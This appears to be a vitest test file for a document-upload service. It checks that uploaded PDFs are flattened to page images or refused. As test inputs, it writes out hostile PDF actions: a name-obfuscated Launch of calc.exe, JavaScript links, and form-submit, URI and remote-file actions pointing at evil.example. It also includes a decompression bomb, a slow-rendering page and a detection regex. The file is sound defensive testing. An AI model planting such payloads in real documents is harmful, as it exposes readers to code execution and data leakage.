import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { getDocumentProxy } from 'unpdf';
import { expect, test } from 'vitest';
import { DRAWING_LIMITS, rebuildPdf } from '#server/storage/pdf-pages.ts';
import { customer } from '#test/fixtures.ts';
import { createWorld } from '#test/world.ts';
import { pdf } from './files.ts';
import { upload } from './upload.ts';

const world = await createWorld({ FILE_FOLDER: await mkdtemp(path.join(tmpdir(), 'documents-')) });

/** Returns the owner's download of a PDF that was uploaded. */
async function downloadUploaded(sent: Buffer): Promise<Buffer> {
  const person = await customer(world);
  const { status, body } = await upload(world, person, { file: [sent, 'scan.pdf'] });
  expect(status).toBe(201);
  const answer = await person.call('GET', body.downloadUrl ?? '');
  expect(answer.headers.get('content-type')).toBe('application/pdf');
  return Buffer.from(await answer.arrayBuffer());
}

const compressedStream = (content: Buffer) => {
  const bytes = deflateSync(content);
  return `<< /Length ${bytes.length} /Filter /FlateDecode >>\nstream\n${bytes.toString('latin1')}\nendstream`;
};

test.each([
  ['a program, spelt oddly', '/OpenAction << /S /L#61unch /F (calc.exe) >>', ''],
  [
    'a script behind a link, spelt oddly',
    '',
    '/Annots [<< /Subtype /Link /Rect [0 0 200 120] /A << /S /J#61vaScript /#4a#53 (app.alert\\(1\\)) >> >>]',
  ],
  ['an address that is opened', '/OpenAction << /S /URI /URI (https://evil.example/) >>', ''],
  [
    'a link on its page',
    '',
    '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 120] /A << /S /URI /URI (https://evil.example/) >> >>]',
  ],
  ['a form that is sent', '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>', ''],
  ['a file from elsewhere', '/OpenAction << /S /GoToR /F (//evil.example/share) >>', ''],
  ['hidden words', '/Metadata (GT-SECRET-WORDS)', ''],
])('of a PDF with %s only the image of its page is stored', async (_what, catalog, onPage) => {
  const found = (await downloadUploaded(pdf({ catalog, page: onPage }))).toString('latin1');
  const names = found.replace(/#([0-9a-f]{2})/gi, (_, code: string) =>
    String.fromCharCode(Number.parseInt(code, 16)),
  );
  expect(names).not.toMatch(
    /\/(Launch|JavaScript|JS|URI|SubmitForm|GoToR|OpenAction|AA|Annots|AcroForm|EmbeddedFiles?|Filespec)\b/,
  );
  expect(names).not.toMatch(/evil|calc|alert|SECRET/);
  const opened = await getDocumentProxy(new Uint8Array(Buffer.from(found, 'latin1')));
  const only = await opened.getPage(1);
  expect([opened.numPages, await only.getAnnotations(), await opened.getAttachments()]).toEqual([
    1,
    [],
    null,
  ]);
  expect((await only.getTextContent()).items).toEqual([]);
  expect(only.getViewport({ scale: 1 })).toMatchObject({ width: 200, height: 120 });
});

const EN = 'This PDF cannot be turned into pictures. Send a photo or an image instead.';
const FR = 'Ce PDF ne peut pas être converti en images. Envoyez plutôt une photo ou une image.';
const DRAWN_PAGE = { page: '/Contents 3 0 R' };

test.each([
  ['long and narrow', 'EN', EN, () => pdf({ box: '0 0 100 2000' })],
  ['wide and low', 'FR', FR, () => pdf({ box: '0 0 2000 100' })],
  [
    'that unpacks to hundreds of megabytes',
    'EN',
    EN,
    () => pdf({ ...DRAWN_PAGE, objects: [compressedStream(Buffer.alloc(400_000_000, ' '))] }),
  ],
] as const)(
  'a PDF with a page %s is refused, and an image is requested instead (%s)',
  async (_what, langKey, words, make) => {
    const person = await customer(world, { langKey });
    const { status, body } = await upload(world, person, { file: [make(), 'scan.pdf'] });
    expect(status).toBe(400);
    expect(body.errors).toEqual([{ field: 'file', code: 'documentNotDrawable', message: words }]);
  },
);

test('a PDF with a page that takes minutes to render is given up at its timeout', async () => {
  const slow = pdf({
    ...DRAWN_PAGE,
    objects: [compressedStream(Buffer.alloc(60_000_000, '9 w 0 0 m 200 120 l S\n'))],
  });
  // A fifteenth of the usual limit, so that the test is quick.
  const limits = { ...DRAWING_LIMITS, timeMs: DRAWING_LIMITS.timeMs / 15 };
  const before = process.cpuUsage();
  expect(await rebuildPdf(slow, limits)).toEqual({ ok: false, rule: 'documentNotDrawable' });
  // CPU time, so that a busy machine does not matter. Without the limit it takes half a minute.
  const { user, system } = process.cpuUsage(before);
  expect((user + system) / 1_000).toBeLessThan(10 * limits.timeMs);
});

test('a PDF whose pictures are larger than the store can return is refused', async () => {
  const { content } = (await rebuildPdf(pdf())) as { content: Buffer };
  const upTo = (maxBytes: number) => rebuildPdf(pdf(), { ...DRAWING_LIMITS, maxBytes });
  // Two drawings of the same page differ by a few bytes, such as the time.
  expect(await upTo(content.length + 100)).toMatchObject({ ok: true });
  expect(await upTo(content.length - 100)).toEqual({ ok: false, rule: 'documentNotDrawable' });
});
